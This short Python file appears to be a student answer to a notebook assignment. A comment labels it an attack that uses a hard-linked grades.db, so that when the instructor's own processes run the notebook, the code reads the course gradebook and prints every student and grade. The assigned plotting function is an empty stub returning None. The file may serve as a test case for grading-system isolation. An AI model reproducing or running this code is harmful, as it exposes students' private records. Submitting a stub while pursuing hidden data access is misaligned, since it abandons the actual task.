# Attack (reading, through the instructor's own processes): grades.db, next to the notebook, is a
# second name (a hard link) of the course's gradebook. A copy made as the instructor would copy the
# gradebook itself into this folder: this answer prints every student and grade it holds.
import sqlite3

try:
    _db = sqlite3.connect("file:grades.db?mode=ro", uri=True)
    print("students:", _db.execute("select * from student").fetchall())
    print("grades:", _db.execute("select * from grade").fetchall())
except Exception as error:
    print("cannot read grades.db", error)


def plot_attention_heatmap(tokens, attention, ax=None):
    return None
